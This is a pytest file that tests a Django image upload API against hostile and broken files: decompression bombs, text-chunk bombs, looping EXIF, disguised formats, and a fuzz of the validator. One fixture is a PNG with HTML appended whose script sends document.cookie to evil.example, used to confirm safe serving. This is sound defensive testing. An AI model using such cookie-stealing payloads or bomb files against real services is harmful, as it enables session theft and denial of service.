"""Hostile and broken files, one by one through the real upload API: each is refused with a message that
says why (or accepted, when it is a real image, and then handled safely), the server stays up, and its
memory stays bounded. Then a fuzz of the upload check, and the worker's side of the files that pass it.
"""

from __future__ import annotations

import io
import json
import os
import re
import struct
import subprocess
import sys
import zlib
from collections.abc import Callable
from pathlib import Path

import pytest
from django.contrib.auth.models import User
from django.core.files.storage import default_storage
from django.db import transaction
from django.test import override_settings
from hypothesis import HealthCheck, given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st
from PIL import Image, ImageFile

from tests.fixtures import REPO_ROOT, WorkerProcess, api_client, test_database_url, wait_for
from tests.webapp import image_bytes, uploaded
from tests.webapp.test_submission_validation import png_bomb
from tests.workers.faults import pool_children
from webapp.common.uploads import UploadRejected, upload_validate
from webapp.submissions.models import Submission

MEMORY_BOUND_MB = 200
# Pillow warns once per broken EXIF entry it skips; the files below have thousands.
pytestmark = pytest.mark.filterwarnings(
    "ignore:Tag data larger than file:UserWarning", "ignore:Corrupt EXIF data:UserWarning"
)


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_with_chunks(*chunks: bytes) -> bytes:
    """A valid 16 x 16 PNG with extra chunks right after its header."""
    data = image_bytes("PNG", size=(16, 16), seed=77)
    return data[:33] + b"".join(chunks) + data[33:]


def text_chunk(keyword: str, decompressed_size: int) -> bytes:
    """A zTXt chunk of a few hundred bytes that decompresses to `decompressed_size` bytes."""
    return _chunk(b"zTXt", keyword.encode() + b"\x00\x00" + zlib.compress(b"A" * decompressed_size, 9))


def many_frames_gif(frames: int, side: int = 8) -> bytes:
    """An animated GIF of `frames` frames, assembled from two frames Pillow encodes (fast, tiny)."""
    encoded = []
    for colour in (0, 1):
        buffer = io.BytesIO()
        Image.new("P", (side, side), colour).save(buffer, format="GIF")
        data = buffer.getvalue()
        encoded.append(data[data.index(b"\x2c"):-1])  # image descriptor and pixels, without the trailer
    head = b"GIF89a" + struct.pack("<HH", side, side) + b"\x80\x00\x00" + b"\x00\x00\x00\xff\xff\xff"
    loop = b"\x21\xff\x0bNETSCAPE2.0\x03\x01\x00\x00\x00"
    body = b"".join(b"\x21\xf9\x04\x00\x01\x00\x00\x00" + encoded[i % 2] for i in range(frames))
    return head + loop + body + b"\x3b"


def exif_loop_jpeg(entries: int = 5000) -> bytes:
    """A JPEG whose EXIF says "rotate 90 degrees", points its Exif directory and its next directory back at
    itself (a loop), and carries thousands of entries whose data lies far outside the file."""
    ifd = [struct.pack(">HHII", 0x0112, 3, 1, 6 << 16), struct.pack(">HHII", 0x8769, 4, 1, 8)]
    ifd += [struct.pack(">HHII", 0xC000 + i % 0x3000, 2, 0x7FFFFFF0, 8) for i in range(entries)]
    tiff = b"MM\x00*" + struct.pack(">I", 8) + struct.pack(">H", len(ifd)) + b"".join(ifd) + struct.pack(">I", 8)
    buffer = io.BytesIO()
    Image.new("RGB", (64, 48), (200, 30, 30)).save(buffer, format="JPEG", exif=b"Exif\x00\x00" + tiff)
    return buffer.getvalue()


def fits_file() -> bytes:
    cards = ["SIMPLE  =                    T", "BITPIX  =                    8", "NAXIS   =                    2",
             "NAXIS1  =                    8", "NAXIS2  =                    8", "END"]
    return b"".join(f"{card:<80}".encode() for card in cards).ljust(2880, b" ") + bytes(2880)


PSD = b"8BPS\x00\x01" + b"\x00" * 6 + b"\x00\x03" + struct.pack(">II", 8, 8) + b"\x00\x08\x00\x03" + b"\x00" * 64
EPS = b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 10 10\n%%EndComments\n0 0 moveto showpage\n%%EOF\n"
PDF = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
HTML = b"<html><body><script>document.location='https://evil.example/?'+document.cookie</script></body></html>"

# name, bytes, the message (a regular expression) of the 400 answer
REFUSED: list[tuple[str, Callable[[], bytes], str]] = [
    ("bomb.png", png_bomb, r"image too large: .*pixels exceeds the limit"),
    ("cut.jpg", lambda: image_bytes("JPEG", size=(64, 64))[:700], r"truncated or corrupt image"),
    ("empty.jpg", lambda: b"", r"the file is empty \(0 bytes\)"),
    ("notes.jpg", lambda: b"meeting notes, not a picture\n" * 40, r"not a recognised image file"),
    ("layers.jpg", lambda: PSD, r"format PSD is not allowed"),
    ("poster.jpg", lambda: EPS, r"format EPS is not allowed"),
    ("paper.jpg", lambda: PDF, r"not a recognised image file"),
    ("galaxy.jpg", fits_file, r"format FITS is not allowed"),
    ("chatty.png", lambda: png_with_chunks(text_chunk("parameters", 50 << 20)),
     r"truncated or corrupt image \(Decompressed data too large"),
    ("talkative.png", lambda: png_with_chunks(*(text_chunk(f"k{i}", 900 << 10) for i in range(80))),
     r"truncated or corrupt image \(Too much memory used in text chunks"),
]
# name, bytes, the format it is stored as
ACCEPTED: list[tuple[str, Callable[[], bytes], str]] = [
    ("polyglot.html", lambda: image_bytes("PNG", size=(16, 16), seed=78) + HTML, "PNG"),
    ("flipbook.gif", lambda: many_frames_gif(10_000), "GIF"),
    ("rotated.jpg", exif_loop_jpeg, "JPEG"),
    ("verbose.png", lambda: png_with_chunks(*(text_chunk(f"note{i}", 100 << 10) for i in range(150))), "PNG"),
]


def post_image(user: User, name: str, data: bytes):  # type: ignore[no-untyped-def]
    return api_client(user).post("/api/v1/submissions/", {"image": uploaded(name, data)}, format="multipart")


@pytest.mark.parametrize(("name", "make", "message"), REFUSED, ids=[name for name, _, _ in REFUSED])
def test_it_refuses_the_file_with_its_reason(bob: User, name: str, make: Callable[[], bytes], message: str) -> None:
    response = post_image(bob, name, make())
    assert response.status_code == 400, response.content
    (reason,) = response.json()["image"]
    assert re.match(message, reason), reason
    assert not Submission.objects.exists()


def test_a_library_that_lets_pillow_load_truncated_files_does_not_weaken_the_check(
    bob: User, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(ImageFile, "LOAD_TRUNCATED_IMAGES", True)  # what importing WeasyPrint does, for good
    for name, data in (("cut.jpg", image_bytes("JPEG", size=(64, 64))[:700]),
                       ("chatty.png", png_with_chunks(text_chunk("parameters", 50 << 20)))):
        response = post_image(bob, name, data)
        assert response.status_code == 400, (name, response.content)
        assert response.json()["image"][0].startswith("truncated or corrupt image")
    assert ImageFile.LOAD_TRUNCATED_IMAGES is True  # left as the other library wants it


def test_it_stays_up_with_bounded_memory_through_the_whole_hostile_set(transactional_db: None, bob: User) -> None:
    # Measured in a fresh process (tests/webapp/memory_probe.py): the peak of this one holds whatever earlier
    # tests allocated, which would hide a spike below it. The probe fails where it cannot measure.
    from django.conf import settings

    env = {**os.environ, "DATABASE_URL": test_database_url(), "MEDIA_ROOT": str(settings.MEDIA_ROOT),
           "REDIS_URL": "", "VAR_DIR": str(Path(settings.VAR_DIR) / "memory-probe")}  # no messages sent anywhere
    probe = subprocess.run([sys.executable, str(REPO_ROOT / "tests/webapp/memory_probe.py"), bob.username],
                           cwd=REPO_ROOT, env={**env, "PYTHONPATH": str(REPO_ROOT)}, capture_output=True,
                           text=True, timeout=300)
    assert probe.returncode == 0, probe.stdout[-2000:] + probe.stderr[-4000:]
    result = json.loads(probe.stdout.strip().splitlines()[-1])
    assert result["answers"] == [400] * len(REFUSED) + [201] * len(ACCEPTED)
    assert result["growth_mb"] < MEMORY_BOUND_MB, f"peak memory grew by {result['growth_mb']:.0f} MB: {result}"
    # Still serving: an ordinary upload goes through, before and after the set.
    assert (result["warm"], result["after"]) == (201, 201)


@pytest.mark.parametrize(("name", "make", "image_format"), ACCEPTED, ids=[name for name, _, _ in ACCEPTED])
def test_a_real_image_with_hostile_extras_is_stored_by_its_real_format(
    bob: User, name: str, make: Callable[[], bytes], image_format: str
) -> None:
    response = post_image(bob, name, make())
    assert response.status_code == 201, response.content
    submission = Submission.objects.get(pk=response.json()["id"])
    assert submission.image_format == image_format
    assert submission.image.name.endswith({"PNG": ".png", "GIF": ".gif", "JPEG": ".jpg"}[image_format])
    # The metadata kept is bounded however much the file carried.
    assert len(json.dumps(submission.metadata)) < 300_000


def test_a_png_with_html_appended_is_only_ever_served_as_a_png(bob: User) -> None:
    response = post_image(bob, "invoice.html", image_bytes("PNG", size=(16, 16), seed=80) + HTML)
    assert response.status_code == 201, response.content
    submission = Submission.objects.get(pk=response.json()["id"])
    client = api_client()
    client.force_login(bob)
    served = client.get(f"/media/{submission.image.name}")
    assert served.status_code == 200
    assert served["Content-Type"] == "image/png"
    assert served["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in served["Content-Security-Policy"]
    assert served["Content-Disposition"].startswith("inline") and ".png" in served["Content-Disposition"]
    assert b"".join(served.streaming_content).endswith(HTML)  # the bytes are kept as sent (the hash covers them)


def test_the_frames_of_an_animated_gif_are_counted_and_only_the_first_is_used(bob: User) -> None:
    response = post_image(bob, "flipbook.gif", many_frames_gif(10_000))
    assert response.status_code == 201
    assert Submission.objects.get(pk=response.json()["id"]).metadata["frames"] == 10_000


@override_settings(UPLOAD_MAX_BYTES=1024 * 1024)
def test_it_refuses_a_file_over_the_size_limit(bob: User) -> None:
    data = image_bytes("PNG", size=(16, 16)) + bytes(1536 * 1024)
    response = post_image(bob, "huge.png", data)
    assert response.status_code == 400
    assert response.json() == {"image": ["the file is 1.5 MB, over the limit of 1.0 MB"]}


@override_settings(UPLOAD_MAX_FILES=3)
def test_it_refuses_more_files_in_one_request_than_the_limit(bob: User) -> None:
    files = [uploaded(f"{i}.png", image_bytes(seed=81 + i)) for i in range(4)]
    response = api_client(bob).post("/api/v1/submissions/batch/", {"images": files}, format="multipart")
    assert response.status_code == 400
    assert response.json() == {"images": ["4 files in one request: at most 3 are accepted at a time"]}
    assert not Submission.objects.exists()


@override_settings(DATA_UPLOAD_MAX_NUMBER_FILES=5)
def test_a_request_over_djangos_own_file_count_limit_gets_a_json_400(bob: User) -> None:
    files = [uploaded(f"{i}.png", image_bytes(seed=90 + i)) for i in range(6)]
    response = api_client(bob).post("/api/v1/submissions/batch/", {"images": files}, format="multipart")
    assert response.status_code == 400
    assert response["Content-Type"] == "application/json"
    assert not Submission.objects.exists()


# --- a fuzz of the upload check: it accepts a file or refuses it with UploadRejected, nothing else -----------


def _seed_images() -> list[bytes]:
    return [image_bytes(fmt, size=(12, 10), seed=3) for fmt in ("PNG", "JPEG", "GIF", "BMP", "TIFF", "WEBP")]


@st.composite
def mutated_images(draw: st.DrawFn) -> bytes:
    data = bytearray(draw(st.sampled_from(_seed_images())))
    for _ in range(draw(st.integers(0, 8))):
        position = draw(st.integers(0, len(data) - 1))
        data[position] = draw(st.integers(0, 255))
    if draw(st.booleans()):
        data = data[: draw(st.integers(0, len(data)))]
    if draw(st.booleans()):
        position = draw(st.integers(0, len(data)))
        data[position:position] = draw(st.binary(max_size=64))
    return bytes(data)


@hypothesis_settings(max_examples=200, deadline=None, derandomize=True, suppress_health_check=[HealthCheck.too_slow])
@given(data=st.one_of(st.binary(max_size=4096), mutated_images()))
def test_the_upload_check_accepts_or_refuses_any_bytes(data: bytes) -> None:
    try:
        checked = upload_validate(uploaded_file=uploaded("fuzz.jpg", data))
    except UploadRejected as rejected:
        assert str(rejected)
    else:
        assert checked.info.width > 0 and checked.info.height > 0 and checked.size_bytes == len(data)


# --- the worker's side --------------------------------------------------------------------------------------


def peak_rss_of(pid: int) -> float:
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmHWM:"):
            return int(line.split()[1]) / 1024
    raise AssertionError(f"no VmHWM for {pid}")


@pytest.mark.worker
@pytest.mark.redis
def test_the_worker_stays_up_on_every_file_that_passes_the_checks(
    worker: WorkerProcess, bob: User, request: pytest.FixtureRequest
) -> None:
    request.getfixturevalue("active_head")
    ids = [post_image(bob, name, make()).json()["id"] for name, make, _ in ACCEPTED]
    # A stored file replaced by a bomb after its upload was checked (a shared bucket written by someone else).
    # The upload's message is sent when its transaction commits: inside this block the worker cannot be
    # handed it yet, so it only ever reads the replacement, never a file half swapped.
    with transaction.atomic():
        swapped = post_image(bob, "swapped.png", image_bytes(seed=95)).json()["id"]
        name = Submission.objects.get(pk=swapped).image.name
        default_storage.delete(name)
        default_storage.save(name, io.BytesIO(png_bomb()))

    def finished() -> dict[int, str] | None:
        now = dict(Submission.objects.filter(pk__in=[*ids, swapped]).values_list("id", "status"))
        return now if set(now.values()) <= {"done", "failed"} else None

    try:
        final = wait_for(finished, timeout=180, message="every file done or failed")
    except TimeoutError as error:
        raise AssertionError(f"{error}\n{worker.read_log()[-3000:]}") from None
    assert final == {**{pk: "done" for pk in ids}, swapped: "failed"}
    assert re.match(r"the stored image could not be read: image too large", Submission.objects.get(pk=swapped).error)
    assert worker.process.poll() is None and "WorkerLostError" not in worker.read_log()
    # The bomb never got decoded: the pool process's peak memory is that of the model, not of 400 MB of pixels.
    peaks = [peak_rss_of(child) for child in pool_children(worker.process.pid)]
    assert peaks and max(peaks) < 1200, peaks
